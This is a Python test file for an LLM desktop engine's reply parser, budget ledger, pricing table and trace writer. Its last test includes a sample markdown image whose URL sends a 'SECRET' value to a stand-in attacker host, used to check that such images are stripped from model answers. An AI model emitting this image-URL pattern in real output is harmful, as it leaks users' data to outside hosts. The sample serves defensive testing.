"""Reading root-model replies; the corpus description; budgets and prices; the trace."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from rlm_desktop.engine import prompts
from rlm_desktop.engine.budget import BudgetExhausted, Ledger, Limits, Pricing
from rlm_desktop.engine.trace import JsonlWriter, Trace, TraceEvent, Usage


def test_code_blocks_repl_and_python_in_order() -> None:
    reply = prompts.parse_reply("a\n```repl\nx = 1\n```\nb\n```python\nprint(x)\n```\n"
                                "```json\n{\"a\": 1}\n```")
    assert reply.code_blocks == ("x = 1\n", "print(x)\n")
    assert reply.final_text is None


def test_final_outside_code_forms() -> None:
    assert prompts.parse_reply("FINAL(42 items)").final_text == "42 items"
    assert prompts.parse_reply('Done.\nFINAL("quoted answer")').final_text == "quoted answer"
    assert prompts.parse_reply("FINAL_VAR(result)").final_var == "result"
    assert prompts.parse_reply("FINAL_VAR('result')").final_var == "result"
    # FINAL inside a code block is the REPL's business, not the parser's.
    reply = prompts.parse_reply("```repl\nFINAL('x')\n```")
    assert reply.code_blocks and reply.final_text is None
    assert prompts.parse_reply("I will call FINAL later").final_text is None


def test_corpus_description_has_counts_and_names_but_no_text() -> None:
    docs = [{"name": f"doc{i}.pdf", "kind": "pdf", "chars": 1000, "pages": 3}
            for i in range(100)] + [{"name": "mail#1", "kind": "email", "chars": 50}]
    text = prompts.describe_corpus(docs)
    assert "101 documents" in text and "pdf 100" in text and "email 1" in text
    assert "100,050 characters" in text and "doc0.pdf" in text and "mail#1" in text
    assert "and 93 more" in text
    assert len(text) < 1000


def test_truncate_keeps_head_and_tail() -> None:
    text = "A" * 10_000 + "Z" * 10_000
    cut = prompts.truncate(text, 1000)
    assert cut.startswith("AAA") and cut.endswith("ZZZ") and "characters cut" in cut
    assert len(cut) < 1200
    assert prompts.truncate("short", 1000) == "short"


def test_pricing_snapshots_prefixes_and_overrides(tmp_path: Path) -> None:
    pricing = Pricing()
    assert pricing.price_of("gpt-4o-2024-08-06") == pricing.price_of("gpt-4o")
    assert pricing.price_of("openai/gpt-4o-mini") == pricing.price_of("gpt-4o-mini")
    assert pricing.cost("llama3:8b", Usage(1000, 1000)) == 0.0
    assert pricing.unpriced == {"llama3:8b"}
    override = tmp_path / "pricing.json"
    override.write_text(json.dumps({"llama3:8b": [1.0, 2.0]}))
    loaded = Pricing.load(override)
    assert loaded.cost("llama3:8b", Usage(1_000_000, 1_000_000)) == pytest.approx(3.0)
    override.write_text(json.dumps({"bad": "free"}))
    with pytest.raises(ValueError, match="input, output"):
        Pricing.load(override)


def test_ledger_checks_before_spending() -> None:
    ledger = Ledger(Limits(max_tokens=100, max_subcalls=3, max_cost_usd=1.0),
                    Pricing({"m": (1e6, 0)}))
    ledger.check_call("free-model", 50)
    with pytest.raises(BudgetExhausted, match="token limit"):
        ledger.check_call("free-model", 101)
    ledger.take_subcalls(3)
    with pytest.raises(BudgetExhausted, match="child calls"):
        ledger.take_subcalls(1)
    with pytest.raises(BudgetExhausted, match="cost limit"):
        ledger.check_call("m", 2)


def test_trace_events_and_jsonl(tmp_path: Path) -> None:
    trace = Trace()
    events: list[TraceEvent] = []
    trace.subscribe(events.append)
    path = tmp_path / "t.jsonl"
    writer = JsonlWriter(path)
    trace.subscribe(writer)
    run = trace.start("run", None, input={"question": "q"})
    call = trace.start("root_call", run, model="m")
    trace.delta(call, "hel")
    trace.end(call, output="hello", usage=Usage(3, 2), cost_usd=0.5)
    trace.end(run, output={"answer": "a"})
    writer.close()
    assert [e.type for e in events] == ["start", "start", "delta", "end", "end"]
    lines = [json.loads(x) for x in path.read_text().splitlines()]
    assert [x["kind"] for x in lines] == ["root_call", "run"]
    for line in lines:
        assert {"id", "parent", "kind", "input", "output", "started", "ended", "usage",
                "error"} <= set(line)
    assert lines[0]["parent"] == lines[1]["id"]
    assert lines[0]["usage"] == {"prompt_tokens": 3, "completion_tokens": 2, "total_tokens": 5}


def test_a_failing_subscriber_is_dropped_not_fatal(capsys: pytest.CaptureFixture[str]) -> None:
    trace = Trace()

    def broken(event: TraceEvent) -> None:
        raise RuntimeError("viewer bug")

    trace.subscribe(broken)
    node = trace.start("run", None)
    trace.end(node)
    assert "viewer bug" in capsys.readouterr().err


def test_other_fences_do_not_swallow_code_blocks() -> None:
    reply = prompts.parse_reply("Sample:\n```text\nERROR x\n```\nNow:\n```repl\nprint(1)\n```")
    assert reply.code_blocks == ("print(1)\n",)
    assert prompts.parse_reply("```python3\nx = 1\n```").code_blocks == ("x = 1\n",)
    assert prompts.parse_reply("```repl\r\nx = 1\r\n```").code_blocks == ("x = 1\n",)


def test_final_arguments_are_read_up_to_the_closing_parenthesis() -> None:
    reply = prompts.parse_reply("FINAL(42)\nSources: grep(ERROR)")
    assert reply.final_args == "42"
    reply = prompts.parse_reply('FINAL("3 errors (2 fatal)", sources=hits)')
    assert reply.final_args == '"3 errors (2 fatal)", sources=hits'
    reply = prompts.parse_reply("```repl\nx = 2\n```\nFINAL_VAR(x)")
    assert reply.code_blocks and reply.final_var == "x"


def test_remote_images_in_answers_are_neutralised() -> None:
    text, count = prompts.neutralise_answer(
        "Total 3. ![chart](http://evil.example/?q=SECRET) and <img src='https://x/y'> "
        "but [a link](https://docs.example/) stays")
    assert count == 2
    assert "![" not in text and "<img" not in text
    assert "[remote image removed: http://evil.example/?q=SECRET]" in text
    assert "[a link](https://docs.example/)" in text
